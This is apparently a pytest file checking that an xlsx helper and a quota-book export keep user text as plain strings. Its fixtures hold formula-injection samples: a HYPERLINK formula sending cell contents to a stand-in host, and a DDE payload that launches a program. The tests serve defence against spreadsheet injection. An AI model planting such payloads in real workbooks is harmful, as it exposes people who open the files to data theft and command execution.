"""Spreadsheets keep input text as text: the shared xlsx helper and the quota book built on it."""

from __future__ import annotations

import io

import openpyxl
import pytest

from alignment.engine.plan import build_plan
from alignment.presentation.quota_book import quota_book_bytes
from alignment.presentation.xlsx import TEXT_SAFE_OPTIONS, text_safe_workbook, workbook_bytes
from tests.planning_companies import HAND, hand_inputs, params

FORMULA_NAME = '=HYPERLINK("http://example.invalid/?x="&A1,"Open invoice")'
HOSTILE = [
    FORMULA_NAME,
    "http://example.invalid/login",
    "mailto:someone@example.invalid",
    "+1-2",
    "-2+3",
    "@SUM(A1:A2)",
    "{=SUM(A1)}",
    "007",
]


def _cells(data: bytes) -> list[openpyxl.cell.Cell]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


class TestTextSafeWorkbook:
    def test_every_string_is_a_string_cell_and_numbers_stay_numbers(self) -> None:
        def fill(book) -> None:
            sheet = book.add_worksheet("Text")
            sheet.write_column(0, 0, HOSTILE)
            sheet.write_row(0, 1, HOSTILE)
            sheet.write(len(HOSTILE), 0, -12.5)

        cells = {(c.row, c.column): c for c in _cells(workbook_bytes(fill))}
        for i, text in enumerate(HOSTILE):
            for cell in (cells[(i + 1, 1)], cells[(1, i + 2)]):
                assert (cell.value, cell.data_type, cell.hyperlink) == (text, "s", None)
        number = cells[(len(HOSTILE) + 1, 1)]
        assert (number.value, number.data_type) == (-12.5, "n")

    def test_a_file_path_and_a_context_manager(self, tmp_path) -> None:
        path = tmp_path / "sheet.xlsx"
        with text_safe_workbook(path) as book:
            book.add_worksheet("S").write(0, 0, FORMULA_NAME)
        cell = openpyxl.load_workbook(path)["S"]["A1"]
        assert (cell.value, cell.data_type) == (FORMULA_NAME, "s")

    @pytest.mark.parametrize("option", sorted(TEXT_SAFE_OPTIONS))
    def test_the_safe_options_cannot_be_turned_back_on(self, option: str) -> None:
        with pytest.raises(ValueError, match=f"xlsx option {option}: expected False"):
            text_safe_workbook(io.BytesIO(), **{option: True})


@pytest.fixture(scope="module")
def quota_book_cells() -> list[openpyxl.cell.Cell]:
    """The quota book of a company whose names, groups, regions and owners read like formulas or links."""
    customers = [
        (cid, name, group, region, owner)
        for (cid, _, group, region, owner), name in zip(
            HAND["customers"],
            [FORMULA_NAME, "http://example.invalid/login", "@SUM(A1:A2)", "-2+3"],
            strict=True,
        )
    ]
    customers[0] = (customers[0][0], customers[0][1], "+G1", "=North", customers[0][4])
    customers[1] = (customers[1][0], customers[1][1], "+G1", "=North", customers[1][4])
    people = [
        (pid, "=cmd|' /C calc'!A0" if pid == "S1" else name, f, t) for pid, name, f, t in HAND["people"]
    ]
    plan = build_plan(hand_inputs(customers=customers, people=people), params(allocation={"rounding": 100.0}))
    assert FORMULA_NAME in set(plan.final_quotas["customer_name"])
    return _cells(quota_book_bytes(plan))


class TestQuotaBookKeepsInputTextAsText:
    def test_no_cell_is_a_formula_or_a_hyperlink(self, quota_book_cells) -> None:
        assert [c.coordinate for c in quota_book_cells if c.data_type == "f"] == []
        assert [c.coordinate for c in quota_book_cells if c.hyperlink is not None] == []

    def test_names_groups_regions_and_owners_are_string_cells(self, quota_book_cells) -> None:
        written = {c.value: c.data_type for c in quota_book_cells if isinstance(c.value, str)}
        for text in (
            FORMULA_NAME,
            "http://example.invalid/login",
            "@SUM(A1:A2)",
            "-2+3",
            "+G1",
            "=North",
            "=cmd|' /C calc'!A0",
        ):
            assert written.get(text) == "s", text
